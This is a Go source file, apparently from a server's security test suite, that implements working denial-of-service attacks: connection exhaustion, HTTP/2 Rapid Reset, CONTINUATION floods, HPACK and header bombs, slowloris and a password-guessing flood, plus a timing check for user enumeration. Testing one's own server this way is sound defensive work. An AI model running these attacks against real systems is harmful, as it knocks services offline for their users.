//go:build linux

package dos

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Bounds of single network operations of the attackers.
const (
	dialTimeout  = 3 * time.Second
	writeTimeout = 3 * time.Second
	readTimeout  = 3 * time.Second
)

// Stats counts what an attack did. The fields are updated atomically.
type Stats struct {
	// Conns is the number of connections the attack opened.
	Conns atomic.Int64 `json:"-"`
	// DialErrors counts connections that could not be opened.
	DialErrors atomic.Int64 `json:"-"`
	// Requests counts requests (HTTP/1.1) or streams (HTTP/2) sent.
	Requests atomic.Int64 `json:"-"`
	// Frames counts other frames sent (RST_STREAM, CONTINUATION).
	Frames atomic.Int64 `json:"-"`
	// Bytes counts request bytes written.
	Bytes atomic.Int64 `json:"-"`
	// Cut counts connections the server closed or reset during the attack.
	Cut atomic.Int64 `json:"-"`
	// GoAway counts GOAWAY frames received.
	GoAway atomic.Int64 `json:"-"`
	// RSTStream counts RST_STREAM frames received.
	RSTStream atomic.Int64 `json:"-"`

	mu       sync.Mutex
	statuses map[string]int64
	notes    []string
	// failed is set by a scenario's own check (see authTiming).
	failed []string
}

// status counts one response status (or outcome, e.g. "closed").
func (s *Stats) status(code string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.statuses == nil {
		s.statuses = map[string]int64{}
	}
	s.statuses[code]++
}

// note records a line for the report.
func (s *Stats) note(format string, args ...any) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.notes = append(s.notes, fmt.Sprintf(format, args...))
}

// fail records a scenario-specific failure.
func (s *Stats) fail(format string, args ...any) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.failed = append(s.failed, fmt.Sprintf(format, args...))
}

// held keeps the attackers' connections open after the attack phase, so
// that the suite sees whether the server lets go of them by itself, and
// tracks the reader goroutines that live as long as those connections.
type held struct {
	mu      sync.Mutex
	conns   []io.Closer
	closed  bool
	readers sync.WaitGroup
}

// add keeps c; after closeAll it closes c at once.
func (h *held) add(c io.Closer) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.closed {
		_ = c.Close()
		return
	}
	h.conns = append(h.conns, c)
}

// count returns the number of connections held.
func (h *held) count() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return len(h.conns)
}

// closeAll closes every held connection and waits (bounded) for the readers.
func (h *held) closeAll() {
	h.mu.Lock()
	h.closed = true
	conns := h.conns
	h.conns = nil
	h.mu.Unlock()
	for _, c := range conns {
		_ = c.Close()
	}
	done := make(chan struct{})
	go func() { h.readers.Wait(); close(done) }()
	t := time.NewTimer(10 * time.Second)
	defer t.Stop()
	select {
	case <-done:
	case <-t.C:
	}
}

// reader runs an HTTP/2 read loop on c until the connection ends,
// counting GOAWAY and RST_STREAM into st.
func (h *held) reader(c *h2Conn, st *Stats) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.closed {
		return // c was closed by add
	}
	h.readers.Add(1)
	go func() {
		defer h.readers.Done()
		_ = c.readLoop(st)
	}()
}

// attackFunc runs one attack until ctx is done (its deadline is the end of
// the attack phase) and returns; connections meant to stay open go to h.
type attackFunc func(ctx context.Context, t *Target, h *held, st *Stats)

// workers runs n copies of f and waits for them.
func workers(n int, f func(i int)) {
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() { defer wg.Done(); f(i) }()
	}
	wg.Wait()
}

// deadlineOf returns ctx's deadline (the end of the attack phase).
func deadlineOf(ctx context.Context) time.Time {
	d, ok := ctx.Deadline()
	if !ok {
		return time.Now().Add(writeTimeout)
	}
	return d
}

// idleConns opens n plain TCP connections (nothing sent) with par dialers.
func idleConns(n, par int) attackFunc {
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		var next atomic.Int64
		workers(par, func(int) {
			d := net.Dialer{Timeout: dialTimeout, LocalAddr: &net.TCPAddr{IP: net.ParseIP(t.AttackerIP)}}
			for ctx.Err() == nil && next.Add(1) <= int64(n) {
				c, err := d.DialContext(ctx, "tcp", t.Addr)
				if err != nil {
					st.DialErrors.Add(1)
					continue
				}
				st.Conns.Add(1)
				h.add(c)
			}
		})
	}
}

// h2Stall opens conns HTTP/2 connections with the given initial stream
// window and connection window increment, and on each opens streams GETs of
// path (auth: with credentials). read: a reader drains frames (and never
// sends WINDOW_UPDATE); !read: the client stops reading the socket after
// the SETTINGS exchange.
func h2Stall(conns, streams int, path string, auth bool, window, connIncr uint32, read bool) attackFunc {
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		a := ""
		if auth {
			a = t.Auth
		}
		rcv := 0
		if !read {
			rcv = smallRcvBuf
		}
		workers(conns, func(int) {
			c, err := t.dialH2(ctx, rcv, http2.Setting{ID: http2.SettingInitialWindowSize, Val: window},
				http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 1000})
			if err != nil {
				st.DialErrors.Add(1)
				return
			}
			st.Conns.Add(1)
			h.add(c)
			if connIncr > 0 {
				if err := c.write(deadlineOf(ctx), func(fr *http2.Framer) error { return fr.WriteWindowUpdate(0, connIncr) }); err != nil {
					st.Cut.Add(1)
					return
				}
			}
			if read {
				h.reader(c, st)
			} else if err := c.readUntilSettings(time.Now().Add(readTimeout)); err != nil {
				st.Cut.Add(1)
				return
			}
			fields := requestFields(path, a)
			for range streams {
				if ctx.Err() != nil {
					return
				}
				if _, err := c.sendHeaders(deadlineOf(ctx), fields, true); err != nil {
					st.Cut.Add(1)
					return
				}
				st.Requests.Add(1)
			}
		})
	}
}

// h1Request is a GET of path on HTTP/1.1 with optional Authorization.
func h1Request(path, auth string) string {
	var b strings.Builder
	b.WriteString("GET " + path + " HTTP/1.1\r\nHost: " + serverName + "\r\n")
	if auth != "" {
		b.WriteString("Authorization: " + auth + "\r\n")
	}
	b.WriteString("\r\n")
	return b.String()
}

// h1NoRead opens conns TLS HTTP/1.1 connections with a small receive
// buffer, writes reqs copies of req on each (pipelined) and never reads.
func h1NoRead(conns, reqs int, req func(t *Target) string) attackFunc {
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		workers(min(conns, 64), func(w int) {
			for i := w; i < conns && ctx.Err() == nil; i += 64 {
				c, err := t.dialTLS(ctx, []string{"http/1.1"}, smallRcvBuf)
				if err != nil {
					st.DialErrors.Add(1)
					continue
				}
				st.Conns.Add(1)
				h.add(c)
				one := req(t)
				payload := []byte(strings.Repeat(one, reqs))
				_ = c.SetWriteDeadline(deadlineOf(ctx))
				n, err := c.Write(payload)
				st.Bytes.Add(int64(n))
				st.Requests.Add(int64(n / len(one)))
				if err != nil && !isTimeout(err) {
					st.Cut.Add(1)
				}
			}
		})
	}
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}

// rapidReset opens conns HTTP/2 connections and on each sends up to
// perConn HEADERS immediately followed by RST_STREAM(CANCEL), reconnecting
// (at most 20 times per worker) when the server closes the connection.
func rapidReset(conns, perConn int, path string) attackFunc {
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		workers(conns, func(int) {
			sent := 0
			for attempt := 0; attempt < 20 && sent < perConn && ctx.Err() == nil; attempt++ {
				c, err := t.dialH2(ctx, 0)
				if err != nil {
					st.DialErrors.Add(1)
					continue
				}
				st.Conns.Add(1)
				h.add(c)
				h.reader(c, st)
				fields := requestFields(path, t.Auth)
				for sent < perConn && ctx.Err() == nil {
					id, err := c.sendHeaders(deadlineOf(ctx), fields, true)
					if err == nil {
						err = c.write(deadlineOf(ctx), func(fr *http2.Framer) error { return fr.WriteRSTStream(id, http2.ErrCodeCancel) })
					}
					if err != nil {
						if !isTimeout(err) {
							st.Cut.Add(1)
						}
						break
					}
					sent++
					st.Requests.Add(1)
					st.Frames.Add(1)
				}
			}
		})
	}
}

// floodChunk is a CONTINUATION payload of whole "literal never indexed"
// header fields with new names, about maxFrame bytes long.
func floodChunk() []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	val := strings.Repeat("a", 200)
	for i := 0; b.Len() < maxFrame-300; i++ {
		_ = enc.WriteField(hpack.HeaderField{Name: "x-flood-" + strconv.Itoa(i), Value: val, Sensitive: true})
	}
	return b.Bytes()
}

// continuationFlood opens conns HTTP/2 connections; on each it sends a
// HEADERS frame without END_HEADERS and then CONTINUATION frames (never
// ending the block) until the server closes the connection, the attack
// ends or maxFrames frames were sent; it reconnects at most 20 times.
func continuationFlood(conns, maxFrames int) attackFunc {
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		chunk := floodChunk()
		workers(conns, func(int) {
			sent := 0
			for attempt := 0; attempt < 20 && sent < maxFrames && ctx.Err() == nil; attempt++ {
				c, err := t.dialH2(ctx, 0)
				if err != nil {
					st.DialErrors.Add(1)
					continue
				}
				st.Conns.Add(1)
				h.add(c)
				h.reader(c, st)
				head := c.block(requestFields(indexPath, ""))
				err = c.write(deadlineOf(ctx), func(fr *http2.Framer) error {
					return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndStream: true})
				})
				st.Requests.Add(1)
				for err == nil && sent < maxFrames && ctx.Err() == nil {
					err = c.write(deadlineOf(ctx), func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, chunk) })
					if err == nil {
						sent++
						st.Frames.Add(1)
						st.Bytes.Add(int64(len(chunk)))
					}
				}
				if err != nil && !isTimeout(err) {
					st.Cut.Add(1)
				}
			}
		})
	}
}

// h1HeaderBomb sends, on new TLS HTTP/1.1 connections from conns workers,
// requests with a 1 MiB header value and requests with 10,000 headers,
// reads each answer's status (or notes that the server closed) and closes
// the connection; at most perWorker requests per worker.
func h1HeaderBomb(conns, perWorker int) attackFunc {
	big := h1Request(indexPath, "")
	big = strings.TrimSuffix(big, "\r\n") + "X-Bomb: " + strings.Repeat("b", 1<<20) + "\r\n\r\n"
	var many strings.Builder
	many.WriteString(strings.TrimSuffix(h1Request(indexPath, ""), "\r\n"))
	for i := range 10000 {
		many.WriteString("X-H-" + strconv.Itoa(i) + ": v\r\n")
	}
	many.WriteString("\r\n")
	reqs := []string{big, many.String()}
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		workers(conns, func(w int) {
			for i := 0; i < perWorker && ctx.Err() == nil; i++ {
				c, err := t.dialTLS(ctx, []string{"http/1.1"}, 0)
				if err != nil {
					st.DialErrors.Add(1)
					continue
				}
				st.Conns.Add(1)
				req := reqs[(w+i)%2]
				_ = c.SetDeadline(time.Now().Add(writeTimeout + readTimeout))
				n, _ := io.WriteString(c, req)
				st.Bytes.Add(int64(n))
				st.Requests.Add(1)
				resp, err := http.ReadResponse(bufio.NewReader(c), nil)
				if err != nil {
					if isTimeout(err) {
						st.status("timeout")
					} else {
						st.status("closed")
					}
				} else {
					st.status(strconv.Itoa(resp.StatusCode))
					resp.Body.Close()
				}
				c.Close()
			}
		})
	}
}

// h2HeaderBomb sends, on HTTP/2 connections from conns workers, streams
// whose header list is huge: 100 literal fields of 8 KiB (about 800 KiB
// of header block in CONTINUATION frames), and an HPACK bomb (one 4000-byte
// field entered into the dynamic table, then referenced 16,000 times: a
// 64 MB header list from a 16 KB block). It reconnects when the server
// closes the connection; at most perWorker connections per worker.
func h2HeaderBomb(conns, perWorker int) attackFunc {
	var literal []hpack.HeaderField
	for i := range 100 {
		literal = append(literal, hpack.HeaderField{Name: "x-big-" + strconv.Itoa(i), Value: strings.Repeat("c", 8192), Sensitive: true})
	}
	bombField := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("d", 4000)}
	bomb := make([]hpack.HeaderField, 16000)
	for i := range bomb {
		bomb[i] = bombField
	}
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		// Encoded once: the attacker's cost is writing the bytes, the
		// gateway's is reading and decoding them.
		blocks := [2][]byte{
			encodeOnce(append(requestFields(indexPath, t.Auth), literal...)),
			encodeOnce(append(requestFields(indexPath, t.Auth), bomb...)),
		}
		workers(conns, func(w int) {
			for i := 0; i < perWorker && ctx.Err() == nil; i++ {
				c, err := t.dialH2(ctx, 0)
				if err != nil {
					st.DialErrors.Add(1)
					continue
				}
				st.Conns.Add(1)
				h.add(c)
				h.reader(c, st)
				block := blocks[(w+i)%2]
				for j := 0; j < 50 && ctx.Err() == nil; j++ {
					if _, err := c.sendBlock(deadlineOf(ctx), block, true); err != nil {
						if !isTimeout(err) {
							st.Cut.Add(1)
						}
						break
					}
					st.Requests.Add(1)
				}
			}
		})
	}
}

// slowloris opens conns TLS HTTP/1.1 connections and drips a request's
// headers one byte per second on each until the attack ends (the header
// block never ends).
func slowloris(conns int) attackFunc {
	drip := h1Request(indexPath, "")
	drip = strings.TrimSuffix(drip, "\r\n") + "X-Slowloris: " + strings.Repeat("s", 4096)
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		var open []*tls.Conn
		var mu sync.Mutex
		workers(min(conns, 64), func(w int) {
			for i := w; i < conns && ctx.Err() == nil; i += 64 {
				c, err := t.dialTLS(ctx, []string{"http/1.1"}, 0)
				if err != nil {
					st.DialErrors.Add(1)
					continue
				}
				st.Conns.Add(1)
				h.add(c)
				mu.Lock()
				open = append(open, c)
				mu.Unlock()
			}
		})
		alive := make([]bool, len(open))
		for i := range alive {
			alive[i] = true
		}
		tick := time.NewTicker(time.Second)
		defer tick.Stop()
		for pos := 0; pos < len(drip) && ctx.Err() == nil; pos++ {
			for i, c := range open {
				if !alive[i] {
					continue
				}
				_ = c.SetWriteDeadline(time.Now().Add(100 * time.Millisecond))
				if _, err := c.Write([]byte{drip[pos]}); err != nil {
					alive[i] = false
					st.Cut.Add(1)
					continue
				}
				st.Bytes.Add(1)
			}
			select {
			case <-ctx.Done():
			case <-tick.C:
			}
		}
	}
}

// authFlood runs conns keep-alive HTTP/1.1 clients from the attacker's
// address sending the real user with a new wrong password each time.
func authFlood(conns int) attackFunc {
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		tr := &http.Transport{Proxy: nil, TLSClientConfig: t.TLS.Clone(), MaxConnsPerHost: conns, MaxIdleConnsPerHost: conns,
			TLSNextProto: map[string]func(string, *tls.Conn) http.RoundTripper{},
			DialContext:  (&net.Dialer{Timeout: dialTimeout, LocalAddr: &net.TCPAddr{IP: net.ParseIP(t.AttackerIP)}}).DialContext}
		defer tr.CloseIdleConnections()
		client := &http.Client{Transport: tr, Timeout: 10 * time.Second}
		url := "https://" + t.Addr + indexPath
		var n atomic.Int64
		workers(conns, func(int) {
			for ctx.Err() == nil {
				req, _ := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
				req.Host = serverName
				req.Header.Set("Authorization", basic(user, "wrong-"+strconv.FormatInt(n.Add(1), 10)))
				resp, err := client.Do(req)
				st.Requests.Add(1)
				if err != nil {
					if ctx.Err() == nil {
						st.status("error")
					}
					continue
				}
				_, _ = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				st.status(strconv.Itoa(resp.StatusCode))
			}
		})
	}
}

// authTiming (F6) compares, on one keep-alive connection from 127.0.0.3,
// the latency of a wrong password for a known user whose hash is apr1 with
// that of an unknown user; the medians must not tell the two apart
// (within 3× or 5 ms).
func authTiming(rounds int) attackFunc {
	return func(ctx context.Context, t *Target, h *held, st *Stats) {
		tr := &http.Transport{Proxy: nil, TLSClientConfig: t.TLS.Clone(), MaxConnsPerHost: 1,
			TLSNextProto: map[string]func(string, *tls.Conn) http.RoundTripper{},
			DialContext:  (&net.Dialer{Timeout: dialTimeout, LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.3")}}).DialContext}
		defer tr.CloseIdleConnections()
		client := &http.Client{Transport: tr, Timeout: 10 * time.Second}
		url := "https://" + t.Addr + indexPath
		var known, unknown []time.Duration
		not401 := 0
		for i := 0; i < 2*rounds && ctx.Err() == nil; i++ {
			u := legacyUser
			if i%2 == 1 {
				u = "nobody-" + strconv.Itoa(i)
			}
			req, _ := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
			req.Host = serverName
			req.Header.Set("Authorization", basic(u, "wrong-"+strconv.Itoa(i)))
			start := time.Now()
			resp, err := client.Do(req)
			d := time.Since(start)
			st.Requests.Add(1)
			if err != nil {
				st.status("error")
				continue
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			st.status(strconv.Itoa(resp.StatusCode))
			if resp.StatusCode != http.StatusUnauthorized {
				not401++
				continue // not a password check (e.g. 429 from the throttle)
			}
			if i < 2 {
				continue // the connection's first requests pay the handshake
			}
			if u == legacyUser {
				known = append(known, d)
			} else {
				unknown = append(unknown, d)
			}
		}
		mk, mu := median(known), median(unknown)
		st.note("wrong password: known apr1 user median %.2f ms, unknown user median %.2f ms (%d/%d samples)",
			ms(mk), ms(mu), len(known), len(unknown))
		if not401 > 0 {
			st.fail("%d of %d answers were not 401: the timing does not measure the password check", not401, 2*rounds)
		}
		if len(known) == 0 || len(unknown) == 0 {
			st.fail("no timing samples")
			return
		}
		lo, hi := min(mk, mu), max(mk, mu)
		if hi-lo > 5*time.Millisecond && hi > 3*lo {
			st.fail("user enumeration by timing: known %.2f ms vs unknown %.2f ms", ms(mk), ms(mu))
		}
	}
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }
